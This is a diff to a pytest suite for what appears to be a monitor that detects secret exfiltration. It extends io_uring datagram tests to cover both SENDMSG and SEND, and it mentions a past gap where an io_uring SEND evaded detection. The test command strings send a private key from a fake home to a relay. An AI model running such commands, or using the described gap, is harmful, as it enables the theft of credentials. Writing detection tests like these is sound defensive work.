@@ -1371,18 +1371,33 @@ def test_sendmmsg_of_the_key_to_a_receiver_that_keeps_it_is_silent(monitor, stan
                     f"{paths.PYTHON} {DGRAM_SEND} {{sink}} {{relay}} {report}", "silent")
 
 
-def test_io_uring_sendmsg_with_an_address_to_a_relay(monitor, standin, fake_home, tmp_path, uring_dgram):
+# SENDMSG names its destination in the msghdr; SEND in the SQE (addr2), which the kernel copies at
+# submission (an io_uring SEND with an address named no destination before: the attack passed).
+URING_SENDS = ["sendmsg", "send"]
+
+
+def uring_send(uring_dgram, op):
+    return f"{uring_dgram} --send" if op == "send" else str(uring_dgram)
+
+
+@pytest.mark.parametrize("op", URING_SENDS)
+def test_io_uring_send_with_an_address_to_a_relay(monitor, standin, fake_home, tmp_path, uring_dgram, op):
     key = key_of(fake_home)
-    dgram_relay_run(monitor, standin, fake_home, tmp_path, "uring-sendmsg",
-                    f"{uring_dgram} {{sink}} /etc/os-release; {uring_dgram} {{relay}} {key}", "alert")
+    send = uring_send(uring_dgram, op)
+    dgram_relay_run(monitor, standin, fake_home, tmp_path, f"uring-{op}",
+                    f"{send} {{sink}} /etc/os-release; {send} {{relay}} {key}", "alert")
     assert_no_secret(monitor, key)
 
 
-def test_io_uring_sendmsg_of_a_report_to_a_relay_is_silent(monitor, standin, fake_home, tmp_path, uring_dgram):
+@pytest.mark.parametrize("op", URING_SENDS)
+def test_io_uring_send_of_a_report_to_a_relay_is_silent(monitor, standin, fake_home, tmp_path, uring_dgram, op):
+    # The key goes to the sink that keeps it, the report to the relay that uploads.
+    key = key_of(fake_home)
     report = tmp_path / "report.txt"
     report.write_text("build 1234 passed\n" * 100)
-    dgram_relay_run(monitor, standin, fake_home, tmp_path, "uring-sendmsg-twin",
-                    f"{uring_dgram} {{sink}} /etc/os-release; {uring_dgram} {{relay}} {report}", "silent")
+    send = uring_send(uring_dgram, op)
+    dgram_relay_run(monitor, standin, fake_home, tmp_path, f"uring-{op}-twin",
+                    f"{send} {{sink}} {key}; {send} {{relay}} {report}", "silent")
 
 
 # --- Class: a secret cut across TLS writes -------------------------------------------------------
